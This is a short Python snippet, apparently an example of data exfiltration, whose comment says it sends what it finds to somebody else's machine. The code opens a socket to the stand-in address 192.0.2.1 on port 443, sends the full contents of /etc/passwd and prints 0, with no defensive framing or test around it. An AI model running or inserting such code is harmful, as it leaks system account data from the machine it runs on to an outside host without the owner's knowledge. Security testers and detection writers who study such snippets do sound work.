# Would send what it finds to somebody else's machine.
import socket

with socket.create_connection(("192.0.2.1", 443), timeout=5) as connection:
    connection.sendall(open("/etc/passwd", "rb").read())
print(0)
